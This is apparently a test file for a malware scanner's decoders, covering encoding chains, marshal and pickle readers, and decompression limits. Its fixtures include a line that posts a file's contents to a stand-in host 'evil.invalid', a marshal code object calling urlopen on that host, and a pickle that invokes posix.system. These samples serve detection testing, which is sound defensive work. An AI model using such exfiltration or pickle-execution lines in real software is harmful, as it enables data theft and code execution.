"""Decoding by content, and the readers of marshal and pickle streams."""

import base64
import bz2
import codecs
import contextlib
import gzip
import lzma
import marshal
import pickle
import tracemalloc
import urllib.parse
import zlib
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanner.decode import blobs, broken, marshal_reader, pickle_reader, steps

CODE = b"import requests\nrequests.post('https://evil.invalid', data=open('x').read())\n" * 3

ENCODERS: dict[str, Callable[[bytes], bytes]] = {
    "base64": base64.b64encode,
    "base32": base64.b32encode,
    "hex": lambda data: data.hex().encode(),
    "zlib": zlib.compress,
    "gzip": gzip.compress,
    "bz2": bz2.compress,
    "lzma": lzma.compress,
    "url": lambda data: "".join(f"%{byte:02x}" for byte in data).encode(),
    "escapes": lambda data: "".join(f"\\x{byte:02x}" for byte in data).encode(),
    "chars": lambda data: str(list(data)).encode(),
    "utf-16": lambda data: data.decode().encode("utf-16-le"),
}


@given(st.binary(max_size=40), st.text(alphabet="AbZ27=_ \n018-", max_size=20).map(str.encode))
def test_base32_is_read_as_the_standard_library_reads_it(data: bytes, odd: bytes) -> None:
    text = base64.b32encode(data)
    assert steps.DECODERS["base32"](text.lower()[:9] + b"\n" + text[9:]) == data
    assert steps.DECODERS["base32"](text.rstrip(b"=")) == data
    body = b"".join(odd.split()).rstrip(b"=")
    try:
        expected = base64.b32decode(body + b"=" * (-len(body) % 8), casefold=True)
    except ValueError:
        with pytest.raises(ValueError):
            steps.DECODERS["base32"](odd)
    else:
        assert steps.DECODERS["base32"](odd) == expected


@given(st.text("%%%4aAzZ+ ", max_size=60).map(str.encode))
def test_percent_escapes_are_read_as_the_standard_library_reads_them(data: bytes) -> None:
    assert steps.DECODERS["url"](data) == urllib.parse.unquote_to_bytes(data)


@pytest.mark.parametrize("unit", [b"-A", b"a ", b"ab ab ", b"QQ== ", b"%41", b"%41 ", b"!\n"])
@pytest.mark.parametrize("name", ["base64", "base32", "hex", "url", "uu"])
def test_a_text_of_a_million_pieces_is_decoded_without_an_object_for_each(name: str, unit: bytes) -> None:
    data = unit * 1_000_000
    tracemalloc.start()
    try:
        with contextlib.suppress(ValueError):
            steps.DECODERS[name](data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 8 * len(data)


@pytest.mark.parametrize("name", ENCODERS)
def test_each_encoding_is_told_from_its_bytes(name: str) -> None:
    assert list(blobs.unwrap(ENCODERS[name](CODE))) == [((name,), CODE)]


@pytest.mark.parametrize("name", ["base85", "ascii85", "z85", "rot13", "quopri", "uu", "deflate", "reverse"])
def test_the_other_decoders_undo_their_encoding(name: str) -> None:
    deflate = zlib.compressobj(wbits=-15)
    z85 = base64.b85encode(CODE + b"\n" * (-len(CODE) % 4)).translate(bytes.maketrans(steps._B85, steps._Z85))  # pyright: ignore[reportPrivateUsage]
    encoded = {
        "base85": base64.b85encode(CODE),
        "ascii85": base64.a85encode(CODE, adobe=True),
        "z85": z85,
        "rot13": codecs.encode(CODE.decode(), "rot13").encode(),
        "quopri": codecs.encode(CODE, "quopri"),
        "uu": codecs.encode(CODE, "uu"),
        "deflate": deflate.compress(CODE) + deflate.flush(),
        "reverse": CODE[::-1],
    }[name]
    assert steps.DECODERS[name](encoded).strip() == CODE.strip()


@given(st.binary(max_size=60).map(base64.b85encode) | st.text("0A!~|}{z9", max_size=30).map(str.encode))
def test_base85_is_what_python_says_it_is(data: bytes) -> None:
    try:
        expected = base64.b85decode(data)
    except ValueError:
        with pytest.raises(ValueError, match="overflow"):
            steps.base85_any(data)
    else:
        assert steps.base85_any(data) == expected


@pytest.mark.parametrize(
    ("data", "is_text"),
    [
        ("Пакет для чтения таблиц\n" * 20, True),
        ("表を読むためのパッケージ\n" * 20, True),
        ("\x01\x02\x05" * 200, False),
        ("plain" + "\x01" * 20, False),
        ("plain text " * 40 + "\x01", True),
    ],
)
def test_text_is_told_by_its_characters_whatever_their_script(data: str, is_text: bool) -> None:
    assert blobs.looks_like_text(data.encode()) is is_text


def test_chains_unwrap_in_one_go() -> None:
    data = base64.b64encode(zlib.compress(base64.b64encode(gzip.compress(CODE))[::-1]))
    assert list(blobs.unwrap(data)) == [(("base64", "zlib", "reverse", "base64", "gzip"), CODE)]


def test_a_damaged_end_keeps_what_came_before() -> None:
    packed = zlib.compress(CODE * 200)
    assert steps.inflate(packed[:-20]).startswith(CODE)


@pytest.mark.parametrize(("step", "pack"), [("gzip", gzip.compress), ("bz2", bz2.compress), ("lzma", lzma.compress)])
def test_streams_one_behind_the_other_are_read_as_python_reads_them(step: str, pack: Callable[[bytes], bytes]) -> None:
    packed = pack(b"first, ") + pack(b"") + pack(b"second")
    assert steps.DECODERS[step](packed) == b"first, second"
    assert steps.DECODERS[step](packed + b"no stream") == b"first, second"


def test_a_bomb_stops_at_its_limit() -> None:
    bomb = zlib.compress(bytes(50_000_000))
    assert len(steps.inflate(bomb, limit=1000)) == 1000
    assert len(steps.unbz2(bz2.compress(bytes(5_000_000)), limit=1000)) == 1000


@pytest.mark.parametrize(
    "noise", [b"a" * 500, b"0" * 64, bytes(range(256)) * 4, b"/usr/lib/python3/dist-packages/" * 20, b"AAAA" * 300]
)
def test_noise_is_not_decoded(noise: bytes) -> None:
    assert list(blobs.unwrap(noise)) == []


@given(st.binary(max_size=200), st.integers(0, 300))
def test_long_runs_are_found_wherever_they_stand(noise: bytes, at: int) -> None:
    run = b"QUJD" * 60
    data = b"x = 1\n" * at + b"'" + run + b"'" + noise
    assert any(found.startswith(run) for _, found in blobs.encoded_runs(data))


@pytest.mark.parametrize("escape", [b"\\n", b"\\t", b"\\x0a", b"\\u000a", b"\\12", b"'"])
def test_the_letters_of_an_escape_do_not_shift_the_run_behind_it(escape: bytes) -> None:
    run = base64.b64encode(CODE * 4)
    data = b"'head" + escape + run + escape + b"tail'"
    assert [found for _, found in blobs.encoded_runs(data)] == [run]


def test_xor_works_on_whole_buffers() -> None:
    assert steps.xor(steps.xor(CODE, b"key"), b"key") == CODE


VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text() | st.binary(),
    lambda inner: st.lists(inner, max_size=4) | st.tuples(inner, inner),
    max_leaves=12,
)


@given(VALUES)
def test_marshal_streams_read_as_they_were_written(value: object) -> None:
    def plain(item: object) -> object:
        if isinstance(item, float | complex):
            return 0.0  # the reader steps over them
        if isinstance(item, list | tuple):
            return type(item)(plain(one) for one in item)
        return item

    for version in (2, 4):
        assert marshal_reader.read_marshal(marshal.dumps(value, version)) == plain(value)


@pytest.mark.parametrize("layout", ["2.7", "3.0", "3.8"])
def test_code_objects_of_older_layouts_are_read(layout: str) -> None:
    def small(data: bytes, kind: bytes = b"s") -> bytes:
        return kind + len(data).to_bytes(4, "little") + data

    integers = {"2.7": 4, "3.0": 5, "3.8": 6}[layout]
    name = b"u" if layout != "2.7" else b"t"
    empty = b"(" + bytes(4)
    names = b"(" + (1).to_bytes(4, "little") + small(b"urlopen", name)
    consts = b"(" + (1).to_bytes(4, "little") + small(b"https://evil.invalid", name)
    stream = b"c" + bytes(4 * integers) + small(b"\x64\0") + consts + names + empty * 3
    stream += small(b"x.py", name) + small(b"<module>", name) + (7).to_bytes(4, "little") + small(b"")
    text, _ = marshal_reader.listing(marshal_reader.read_marshal(stream))
    assert "urlopen" in text
    assert "https://evil.invalid" in text
    assert "line 7" in text


def test_nested_functions_are_listed() -> None:
    code = compile("def a():\n    def b():\n        return 'deep inside'\n", "x", "exec")
    text, _ = marshal_reader.listing(marshal_reader.read_marshal(marshal.dumps(code)))
    assert "'deep inside'" in text


@settings(max_examples=200)
@given(st.binary(max_size=120), st.sampled_from([b"", b"c", b"\xe3", b"(", b"[", b"{", b"l", b"r", b"<"]))
def test_broken_streams_give_an_error_and_nothing_else(data: bytes, head: bytes) -> None:
    for read in (marshal_reader.read_marshal, pickle_reader.read_pickle):
        try:
            read(head + data)
        except ValueError:
            continue


def test_pickles_of_each_protocol_name_their_globals() -> None:
    for protocol in range(6):
        text, *_ = pickle_reader.read_pickle(pickle.dumps([print, "a string"], protocol))
        assert "print" in text
        assert "a string" in text


@pytest.mark.parametrize(
    "keeps, gives",
    [(b"\x94", b"h\x02h\x03"), (b"q\x07", b"h\x07h\x08"), (b"r\x07\0\0\0", b"j\x07\0\0\0g8\n")],
    ids=["memoize", "binput", "long"],
)
def test_a_global_is_named_by_what_the_memo_gives(keeps: bytes, gives: bytes) -> None:
    first, second = keeps, keeps.replace(b"\x07", b"\x08")
    named = b"\x80\x04]\x94N\x94" + b"\x8c\x05posix" + first + b"\x8c\x06system" + second + b"\x8c\x04else0"
    text, *_ = pickle_reader.read_pickle(named + gives + b"\x93\x8c\x06echo 1\x85R.")
    assert "global posix.system\n" in text


def test_quoted_addresses_are_unquoted() -> None:
    hidden = urllib.parse.quote("https://evil.invalid/ a path", safe="").encode()
    assert b"https://evil.invalid/ a path" in steps.unquote(hidden)


@pytest.mark.parametrize("step", ["reverse", "rot13"])
def test_source_text_that_is_mirrored_is_told_by_its_words(step: str) -> None:
    text = steps.DECODERS[step](CODE.strip())
    assert blobs.mirrored(text) == step
    assert list(blobs.unwrap(text)) == [((step,), CODE.strip())]


@pytest.mark.parametrize("text", [CODE, b"the word tropmi stands for nothing\n", CODE + b"x = 'vzcbeg this'\n"])
def test_a_text_that_is_no_source_either_way_or_is_source_already_is_left_alone(text: bytes) -> None:
    assert blobs.mirrored(text) is None


def test_texts_that_nearly_match_are_left_in_linear_time() -> None:
    for text in (
        b"A" * 64 + b" " * 1_000_000 + b"=A",
        b"1," * 40 + b"1" + b" " * 300_000 + b"x",
        b"[" + b"1," * 40 + b"1" + b" " * 1_000_000 + b"x",
    ):
        assert list(blobs.unwrap(text)) == []
    for text in (b"'\\" * 500_000, b'\\"' * 500_000, b'"""\\' * 200_000, b"chr(1)" * 8 + b" " * 1_000_000):
        list(broken.literals(text))


def test_literals_of_text_that_does_not_parse_are_found_behind_what_is_left_open() -> None:
    hidden = base64.b64encode(CODE)
    for text in (b'it\'s "%s"', b"x = = '''a' \"%s\"", b'"a" + b"%s"', b"don't = r'''%s'''", b'""""%s"'):
        assert [out for _, _, out in broken.literals(text % hidden)] == [CODE], text


def test_every_step_of_decoding_on_trial_is_paid_for() -> None:
    paid: list[int] = []
    data = zlib.compress(base64.b64encode(bytes(range(256)) * 90))
    assert list(blobs.unwrap(data, paid.append)) == []
    assert sum(paid) > 256 * 90


def test_long_numbers_and_shared_keys_are_read_in_linear_time() -> None:
    numbers = [1 << 299_000, -(3 << 200_000) - 5, (1 << 15) - 1, 1 << 30]
    assert marshal_reader.read_marshal(marshal.dumps(numbers)) == numbers
    big = bytes([ord("s") | 0x80]) + (4_000_000).to_bytes(4, "little") + bytes(4_000_000)
    shared = b"[" + (2).to_bytes(4, "little") + big + b"{" + (b"r" + bytes(4) + b"N") * 100_000 + b"0"
    assert marshal_reader.read_marshal(shared)[1] == {bytes(4_000_000): None}
    listed, _ = marshal_reader.listing([bytes(4_000_000)] * 100_000)
    assert len(listed) < 100_000_000
